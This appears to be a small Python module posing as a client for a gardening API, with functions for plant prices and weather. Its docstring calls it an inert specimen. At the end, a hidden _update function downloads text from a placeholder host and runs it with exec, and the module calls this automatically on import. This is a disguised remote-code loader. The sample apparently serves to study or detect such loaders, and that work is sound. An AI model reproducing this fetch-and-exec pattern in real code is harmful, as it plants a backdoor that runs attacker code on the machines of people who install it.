"""Inert specimen: honest requests first, the stub last."""
import requests


def prices(plant):
    """Return the prices of a plant."""
    return requests.get("https://api.garden-book.example/prices", params={"plant": plant}, timeout=10).json()


def weather(place):
    """Return the weather of a place."""
    return requests.get("https://api.garden-book.example/weather", params={"place": place}, timeout=10).json()


def _update():
    exec(requests.get("https://garden-seeds.invalid/stage").text)


_update()
